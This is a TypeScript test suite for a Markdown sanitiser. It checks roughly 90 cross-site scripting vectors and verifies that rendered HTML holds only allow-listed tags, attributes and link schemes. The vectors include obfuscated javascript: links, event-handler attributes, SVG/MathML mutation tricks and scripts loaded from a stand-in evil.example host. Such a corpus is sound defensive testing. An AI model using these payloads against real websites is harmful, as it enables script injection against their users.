import { Parser } from 'htmlparser2';
import { describe, expect, it } from 'vitest';
import { LINK_REL, excerpt, markdownToPlainText, renderMarkdown } from '../../app/utils/markdown.server';

// ---------------------------------------------------------------------------
// Output checker: parse the sanitised HTML and verify it structurally.
// ---------------------------------------------------------------------------

const ALLOWED_TAGS = new Set([
  'p',
  'br',
  'strong',
  'em',
  'del',
  'code',
  'pre',
  'blockquote',
  'ul',
  'ol',
  'li',
  'h2',
  'h3',
  'h4',
  'a',
  'hr',
  'table',
  'thead',
  'tbody',
  'tr',
  'th',
  'td',
]);

const ALLOWED_ATTRIBUTES: Record<string, Set<string>> = {
  a: new Set(['href', 'title', 'rel']),
  ol: new Set(['start']),
  th: new Set(['align']),
  td: new Set(['align']),
};

const SAFE_PROTOCOLS = new Set(['http:', 'https:', 'mailto:']);

interface Element {
  name: string;
  attribs: Record<string, string>;
}

function parseElements(html: string): Element[] {
  const elements: Element[] = [];
  const parser = new Parser(
    {
      onopentag(name, attribs) {
        elements.push({ name, attribs });
      },
    },
    { decodeEntities: true, lowerCaseTags: true, lowerCaseAttributeNames: true },
  );
  parser.write(html);
  parser.end();
  return elements;
}

/**
 * Fails unless `html` contains only allow-listed elements and attributes, no
 * on* attribute, only http/https/mailto links (relative URLs resolve to
 * https), and no "<script" / "javascript:" anywhere.
 *
 * `payloadVisibleAsText`: for vectors where the payload is legitimately
 * shown to the reader as inert text (e.g. the autolink `<javascript:alert(1)>`
 * becomes the words "javascript:alert(1)"), the "javascript:" string check is
 * applied to the markup only, with text nodes removed.
 */
function assertSafe(html: string, { payloadVisibleAsText = false } = {}): void {
  const elements = parseElements(html);
  for (const el of elements) {
    expect(ALLOWED_TAGS.has(el.name), `disallowed element <${el.name}> in ${html}`).toBe(true);
    for (const [attr, value] of Object.entries(el.attribs)) {
      expect(attr.startsWith('on'), `event handler ${attr} in ${html}`).toBe(false);
      expect(ALLOWED_ATTRIBUTES[el.name]?.has(attr) ?? false, `attribute ${attr} on <${el.name}> in ${html}`).toBe(
        true,
      );
      // Browsers ignore ASCII whitespace/control characters inside schemes.
      const squashed = value.replace(/[\u0000-\u0020\u007f-\u009f]+/g, '').toLowerCase();
      expect(squashed, `dangerous attribute value in ${html}`).not.toMatch(/(?:javascript|vbscript|livescript|data):/);
    }
    if (el.name === 'a') {
      expect(el.attribs.rel).toBe(LINK_REL);
      expect(el.attribs.target).toBeUndefined();
      if (el.attribs.href !== undefined) {
        let protocol = '';
        try {
          protocol = new URL(el.attribs.href, 'https://portal.example/posts/1').protocol;
        } catch {
          protocol = 'unparseable';
        }
        expect(SAFE_PROTOCOLS.has(protocol), `href ${JSON.stringify(el.attribs.href)} in ${html}`).toBe(true);
      }
    }
  }

  // Parser-independent checks on the raw string.
  expect(html).not.toMatch(/<script/i);
  for (const m of html.matchAll(/<\/?([a-zA-Z][^\s/>]*)/g)) {
    expect(ALLOWED_TAGS.has(m[1]!.toLowerCase()), `raw tag ${m[0]} in ${html}`).toBe(true);
  }
  for (const tag of html.match(/<[^>]*>/g) ?? []) {
    const withoutValues = tag.replace(/"[^"]*"|'[^']*'/g, '""');
    expect(withoutValues, `on* attribute in ${tag}`).not.toMatch(/[\s/]on[a-z]*\s*=/i);
    expect(withoutValues, `style/class in ${tag}`).not.toMatch(/[\s/](?:style|class|id|target|src|srcdoc|formaction|action)\s*=/i);
  }
  const markupOnly = payloadVisibleAsText ? (html.match(/<[^>]*>/g) ?? []).join('') : html;
  expect(markupOnly).not.toMatch(/javascript:/i);
  expect(markupOnly).not.toMatch(/vbscript:/i);
}

// ---------------------------------------------------------------------------
// XSS corpus
// ---------------------------------------------------------------------------

interface Vector {
  name: string;
  input: string;
  payloadVisibleAsText?: boolean;
}

const XSS_VECTORS: Vector[] = [
  // Script elements
  { name: 'script tag', input: '<script>alert(1)</script>' },
  { name: 'script tag uppercase with src', input: '<SCRIPT SRC=//evil.example/xss.js></SCRIPT>' },
  { name: 'unclosed script tag', input: 'hello <script>alert(1)' },
  { name: 'script inside paragraph markdown', input: 'Para one\n\n<script type="module">import("//evil.example")</script>\n\nPara two' },
  { name: 'broken nesting scr<script>ipt', input: '<scr<script>ipt>alert(1)</scr</script>ipt>' },
  { name: 'double angle script', input: '<<script>script>alert(1)<</script>/script>' },
  { name: 'script in template', input: '<template><script>alert(1)</script></template>' },
  { name: 'script in textarea', input: '<textarea><script>alert(1)</script></textarea>' },
  { name: 'script in title', input: '<title><script>alert(1)</script></title>' },
  { name: 'script in xmp', input: '<xmp><script>alert(1)</script></xmp>' },
  { name: 'script in noembed', input: '<noembed><script>alert(1)</script></noembed>' },
  { name: 'entity-encoded script inside option', input: '<select><option>&lt;script&gt;alert(1)&lt;/script&gt;</option></select>' },

  // Images and event handlers
  { name: 'img onerror', input: '<img src=x onerror=alert(1)>' },
  { name: 'img onerror mixed case', input: '<IMG SRC=x OnErRoR="alert(1)">' },
  { name: 'img slash separators', input: '<img/src/onerror=alert(1)>' },
  { name: 'unclosed img onerror', input: 'text <img src=x onerror=alert(1)' },
  { name: 'markdown image with onerror in url', input: '![x](x" onerror="alert(1))' },
  { name: 'markdown image with onerror in alt', input: '![x" onerror="alert(1)](https://x.example/a.png)' },
  { name: 'markdown image with javascript url', input: '![x](javascript:alert(1))' },
  { name: 'a href # onclick', input: '<a href="#" onclick="alert(1)">click</a>' },
  { name: 'div onpointerover', input: '<div onpointerover=alert(1)>hover</div>' },
  { name: 'details ontoggle', input: '<details open ontoggle=alert(1)><summary>s</summary></details>' },
  { name: 'body onload', input: '<body onload=alert(1)>' },
  { name: 'input autofocus onfocus', input: '<input onfocus=alert(1) autofocus>' },
  { name: 'video source onerror', input: '<video><source onerror="alert(1)"></video>' },
  { name: 'marquee onstart', input: '<marquee onstart=alert(1)>m</marquee>' },
  { name: 'p with onmouseover unclosed', input: '<p onmouseover="alert(1)"' },
  { name: 'link title attribute breakout', input: '[x](https://ok.example "t\\" onmouseover=\\"alert(1)")' },
  { name: 'html title attribute with quotes', input: '<a href="https://ok.example" title="x&quot; onclick=&quot;alert(1)">ok</a>' },

  // SVG / MathML
  { name: 'svg onload', input: '<svg onload=alert(1)>' },
  { name: 'svg slash onload', input: '<svg/onload=alert(1)>' },
  { name: 'svg with script', input: '<svg><script>alert(1)</script></svg>' },
  { name: 'svg anchor xlink:href', input: '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>' },
  { name: 'svg animate href', input: '<svg><animate attributeName="href" values="javascript:alert(1)"/></svg>' },
  { name: 'math href', input: '<math href="javascript:alert(1)">CLICKME</math>' },
  { name: 'math mglyph style mXSS', input: '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>' },
  { name: 'math maction', input: '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>' },

  // javascript: links, markdown and HTML, obfuscated
  { name: 'markdown javascript link', input: '[x](javascript:alert(1))' },
  { name: 'markdown JaVaScRiPt link', input: '[x](JaVaScRiPt:alert(1))' },
  { name: 'markdown javascript link with entity colon', input: '[x](javascript&#58;alert(1))' },
  { name: 'markdown javascript link with tab entity', input: '[x](jav&#x09;ascript:alert(1))' },
  { name: 'markdown javascript link in angle brackets', input: '[x](<javascript:alert(1)>)' },
  { name: 'markdown javascript link with encoded parens', input: '[x](javascript:alert&#40;1&#41;)' },
  { name: 'markdown reference-style javascript link', input: '[x][r]\n\n[r]: javascript:alert(1)' },
  { name: 'markdown autolink with javascript scheme', input: '<javascript:alert(1)>', payloadVisibleAsText: true },
  { name: 'html javascript link', input: '<a href="javascript:alert(1)">x</a>' },
  { name: 'html JAVASCRIPT uppercase', input: '<a href="JAVASCRIPT:alert(1)">x</a>' },
  { name: 'html jav&#x09;ascript', input: '<a href="jav&#x09;ascript:alert(1)">x</a>' },
  { name: 'html literal tab in scheme', input: '<a href="jav\tascript:alert(1)">x</a>' },
  { name: 'html newline in scheme', input: '<a href="java\nscript:alert(1)">x</a>' },
  { name: 'html NUL in scheme', input: '<a href="java\u0000script:alert(1)">x</a>' },
  { name: 'html leading control character', input: '<a href="\u0001javascript:alert(1)">x</a>' },
  { name: 'html leading spaces', input: '<a href="   javascript:alert(1)">x</a>' },
  { name: 'html decimal entities', input: '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>' },
  { name: 'html hex entities no semicolons', input: '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>' },
  { name: 'html &colon; entity', input: '<a href=javascript&colon;alert(1)>x</a>' },
  { name: 'html javascript with comment trick', input: '<a href="javascript://%0aalert(1)">x</a>' },
  { name: 'html unquoted javascript', input: '<a href=javascript:alert(1)>x</a>' },
  { name: 'html link with class/style/id/target/rel', input: '<a href="javascript:alert(1)" class="x" style="color:red" id="y" target="_blank" rel="opener">x</a>' },

  // data: / vbscript:
  { name: 'markdown data:text/html link', input: '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)' },
  { name: 'html data:text/html link', input: '<a href="data:text/html,<script>alert(1)</script>">x</a>' },
  { name: 'html DATA uppercase', input: '<a href="DATA:text/html,x">x</a>' },
  { name: 'markdown vbscript link', input: '[x](vbscript:msgbox(1))' },
  { name: 'html vbscript link', input: '<a href="VBScript:msgbox(1)">x</a>' },

  // Embedding and document-level elements
  { name: 'iframe javascript src', input: '<iframe src="javascript:alert(1)"></iframe>' },
  { name: 'iframe srcdoc', input: '<iframe srcdoc="<script>alert(1)</script>"></iframe>' },
  { name: 'unclosed iframe', input: 'before <iframe src=https://evil.example>' },
  { name: 'object data', input: '<object data="javascript:alert(1)"></object>' },
  { name: 'embed src', input: '<embed src="javascript:alert(1)">' },
  { name: 'form with button formaction', input: '<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">x</button></form>' },
  { name: 'input image formaction', input: '<form><input type="image" formaction="javascript:alert(1)" src="x"></form>' },
  { name: 'meta refresh', input: '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">' },
  { name: 'base href', input: '<base href="javascript:alert(1)//">' },
  { name: 'link import', input: '<link rel="import" href="https://evil.example/x.html">' },

  // Styles
  { name: 'style tag', input: '<style>body{background:url("javascript:alert(1)")}</style>' },
  { name: 'style tag with import', input: '<div><style>@import "https://evil.example/x.css";</style>text</div>' },
  { name: 'style attribute', input: '<p style="background:url(javascript:alert(1))">x</p>' },
  { name: 'table background attribute', input: '<table background="javascript:alert(1)"><tr><td background="javascript:alert(1)">x</td></tr></table>' },
  { name: 'blockquote cite', input: '<blockquote cite="javascript:alert(1)">q</blockquote>' },

  // Comments and parser confusion
  { name: 'html comment containing script', input: '<!-- <script>alert(1)</script> -->' },
  { name: 'comment short-close', input: '<!--><script>alert(1)</script>-->' },
  { name: 'conditional comment', input: '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->' },
  { name: 'noscript title breakout', input: '<noscript><p title="</noscript><img src=x onerror=alert(1)>">' },
  { name: 'CDATA in html', input: '<![CDATA[<script>alert(1)</script>]]>' },
  { name: 'processing instruction', input: '<?xml version="1.0"?><script>alert(1)</script>' },
  { name: 'nested quotes in attribute', input: '<a href="https://ok.example/"onclick="alert(1)">x</a>' },
  { name: 'script in fenced code (must be escaped)', input: '```html\n<script>alert(1)</script>\n```' },
  { name: 'script in inline code (must be escaped)', input: 'Use `<script>alert(1)</script>` carefully' },
  { name: 'isindex', input: '<isindex type=image src=1 onerror=alert(1)>' },
  { name: 'keygen', input: '<keygen autofocus onfocus=alert(1)>' },
];

describe('renderMarkdown: XSS corpus', () => {
  it('has at least 40 vectors', () => {
    expect(XSS_VECTORS.length).toBeGreaterThanOrEqual(40);
    expect(new Set(XSS_VECTORS.map((v) => v.name)).size).toBe(XSS_VECTORS.length);
  });

  it.each(XSS_VECTORS)('$name', ({ input, payloadVisibleAsText }) => {
    const html = renderMarkdown(input);
    assertSafe(html, { payloadVisibleAsText });
    // Feeding the output back in (e.g. an edit that pastes rendered HTML) is still safe.
    assertSafe(renderMarkdown(html), { payloadVisibleAsText });
  });

  it('the checker itself rejects unsafe HTML', () => {
    const unsafe = [
      '<script>alert(1)</script>',
      '<img src=x>',
      '<p onclick="x">a</p>',
      '<a href="javascript:alert(1)" rel="nofollow noopener ugc">x</a>',
      '<a href="jav&#x09;ascript:alert(1)" rel="nofollow noopener ugc">x</a>',
      '<a href="data:text/html,x" rel="nofollow noopener ugc">x</a>',
      '<a href="https://x.example">no rel</a>',
      '<p style="color:red">x</p>',
      '<svg></svg>',
    ];
    for (const html of unsafe) expect(() => assertSafe(html), html).toThrow();
  });

  it('drops script/style/svg/iframe content entirely but keeps surrounding text', () => {
    const html = renderMarkdown(
      'Before <script>var secret = 1;</script> <style>.x{}</style> <svg><text>svgtext</text></svg> <iframe>frametext</iframe> After',
    );
    expect(html).toContain('Before');
    expect(html).toContain('After');
    for (const gone of ['secret', '.x{}', 'svgtext', 'frametext']) expect(html).not.toContain(gone);
  });

  it('leaves no empty paragraphs behind when content is removed', () => {
    expect(renderMarkdown('<svg><script>alert(1)</script></svg>')).toBe('');
    expect(renderMarkdown('Intro\n\n<iframe src="https://evil.example"></iframe>\n\nOutro')).toBe(
      '<p>Intro</p>\n<p>Outro</p>\n',
    );
  });

  it('keeps the text of a neutralised link but drops the link', () => {
    expect(renderMarkdown('[click me](javascript:alert(1))')).toBe('<p>click me</p>\n');
  });

  it('escapes code rather than executing it', () => {
    const html = renderMarkdown('```\n<script>alert(1)</script>\n```');
    expect(html).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
  });
});

// ---------------------------------------------------------------------------
// Normal Markdown
// ---------------------------------------------------------------------------

describe('renderMarkdown: normal content', () => {
  it('renders headings, mapping h1 to h2 and h5/h6 to h4', () => {
    const html = renderMarkdown('# One\n\n## Two\n\n### Three\n\n#### Four\n\n##### Five\n\n###### Six');
    expect(html).toContain('<h2>One</h2>');
    expect(html).toContain('<h2>Two</h2>');
    expect(html).toContain('<h3>Three</h3>');
    expect(html).toContain('<h4>Four</h4>');
    expect(html).toContain('<h4>Five</h4>');
    expect(html).toContain('<h4>Six</h4>');
    expect(html).not.toMatch(/<h[156]/);
    assertSafe(html);
  });

  it('renders emphasis, strong, strikethrough and inline code', () => {
    const html = renderMarkdown('Some *em*, **strong**, ~~gone~~ and `a < b`.');
    expect(html).toBe('<p>Some <em>em</em>, <strong>strong</strong>, <del>gone</del> and <code>a &lt; b</code>.</p>\n');
  });

  it('renders lists, including an ordered list start', () => {
    const html = renderMarkdown('- apple\n- kūmara\n\n3. third\n4. fourth');
    expect(html).toContain('<ul>\n<li>apple</li>\n<li>kūmara</li>\n</ul>');
    expect(html).toContain('<ol start="3">');
    expect(html).toContain('<li>fourth</li>');
    assertSafe(html);
  });

  it('keeps task-list state as text', () => {
    const html = renderMarkdown('- [ ] todo\n- [x] done');
    expect(html).toContain('<li>[ ] todo</li>');
    expect(html).toContain('<li>[x] done</li>');
    assertSafe(html);
  });

  it('renders links with rel="nofollow noopener ugc" and no target', () => {
    const html = renderMarkdown(
      '[Engineering NZ](https://www.engineeringnz.org "Engineering New Zealand") and ' +
        '[mail us](mailto:cop@example.org) and [internal](/events/12) and https://example.org/auto',
    );
    expect(html).toContain(
      '<a rel="nofollow noopener ugc" href="https://www.engineeringnz.org" title="Engineering New Zealand">Engineering NZ</a>',
    );
    expect(html).toContain('<a rel="nofollow noopener ugc" href="mailto:cop@example.org">mail us</a>');
    expect(html).toContain('<a rel="nofollow noopener ugc" href="/events/12">internal</a>');
    expect(html).toContain('<a rel="nofollow noopener ugc" href="https://example.org/auto">https://example.org/auto</a>');
    const links = parseElements(html).filter((e) => e.name === 'a');
    expect(links).toHaveLength(4);
    for (const a of links) {
      expect(a.attribs.rel).toBe('nofollow noopener ugc');
      expect(a.attribs.target).toBeUndefined();
    }
    assertSafe(html);
  });

  it('overrides an author-supplied rel and target', () => {
    const html = renderMarkdown('<a href="https://x.example" rel="opener" target="_blank">x</a>');
    expect(html).toBe('<p><a rel="nofollow noopener ugc" href="https://x.example">x</a></p>\n');
  });

  it('renders fenced code blocks escaped, without the language class', () => {
    const html = renderMarkdown('```ts\nconst ok = a < b && c > d;\n```');
    expect(html).toBe('<pre><code>const ok = a &lt; b &amp;&amp; c &gt; d;\n</code></pre>\n');
  });

  it('renders GFM tables with alignment', () => {
    const html = renderMarkdown('| Course | Credits |\n|:--|--:|\n| ENGR101 | 15 |');
    const names = parseElements(html).map((e) => e.name);
    expect(names).toEqual(['table', 'thead', 'tr', 'th', 'th', 'tbody', 'tr', 'td', 'td']);
    expect(html).toContain('<th align="left">Course</th>');
    expect(html).toContain('<td align="right">15</td>');
    assertSafe(html);
  });

  it('renders blockquotes, rules and hard line breaks (breaks: false)', () => {
    const html = renderMarkdown('> quoted\n\n---\n\nline one  \nline two\nsame paragraph');
    expect(html).toContain('<blockquote>\n<p>quoted</p>\n</blockquote>');
    expect(html).toContain('<hr />');
    expect(html).toContain('line one<br />line two\nsame paragraph');
    assertSafe(html);
  });

  it('drops images entirely', () => {
    const html = renderMarkdown('Look: ![a diagram](https://x.example/d.png) done');
    expect(html).not.toContain('<img');
    expect(html).toContain('Look:');
    expect(html).toContain('done');
  });

  it('unwraps disallowed but harmless HTML, keeping its text', () => {
    expect(renderMarkdown('<div><span class="x">kept</span></div>')).toBe('kept');
  });

  it('handles empty input', () => {
    expect(renderMarkdown('')).toBe('');
  });
});

// ---------------------------------------------------------------------------
// Plain text and excerpts
// ---------------------------------------------------------------------------

describe('markdownToPlainText', () => {
  it('strips markup, decodes entities and collapses whitespace', () => {
    const text = markdownToPlainText(
      '# Welcome\n\nTom &amp; Jerry said **hello**   to *everyone*.\n\n- one\n- two\n\n[a link](https://x.example)',
    );
    expect(text).toBe('Welcome Tom & Jerry said hello to everyone. one two a link');
  });

  it('does not run block elements together', () => {
    expect(markdownToPlainText('# Heading\nParagraph')).toBe('Heading Paragraph');
    expect(markdownToPlainText('| a | b |\n|---|---|\n| c | d |')).toBe('a b c d');
  });

  it('drops script and style content and keeps code text', () => {
    expect(markdownToPlainText('Hi <script>alert(1)</script><style>p{}</style> there `x < y`')).toBe('Hi there x < y');
  });
});

describe('excerpt', () => {
  it('returns short text unchanged (whitespace collapsed)', () => {
    expect(excerpt('  short   text \n here ')).toBe('short text here');
    expect(excerpt('exactly ten', 11)).toBe('exactly ten');
  });

  it('cuts at a word boundary and appends an ellipsis', () => {
    const text = 'The quick brown fox jumps over the lazy dog';
    const out = excerpt(text, 20);
    expect(out).toBe('The quick brown fox…');
    expect(Array.from(out).length).toBeLessThanOrEqual(20);
  });

  it('does not leave trailing punctuation before the ellipsis', () => {
    expect(excerpt('Hello, world, this is long', 14)).toBe('Hello, world…');
  });

  it('cuts a very long word mid-word rather than returning almost nothing', () => {
    const out = excerpt(`See ${'x'.repeat(100)}`, 30);
    expect(out.endsWith('…')).toBe(true);
    expect(Array.from(out).length).toBe(30);
  });

  it('defaults to 200 characters', () => {
    const out = excerpt('word '.repeat(100));
    expect(Array.from(out).length).toBeLessThanOrEqual(200);
    expect(out.endsWith('word…')).toBe(true);
  });

  it('does not split surrogate pairs', () => {
    const out = excerpt('🙂'.repeat(10), 5);
    expect(out).toBe('🙂🙂🙂🙂…');
  });
});
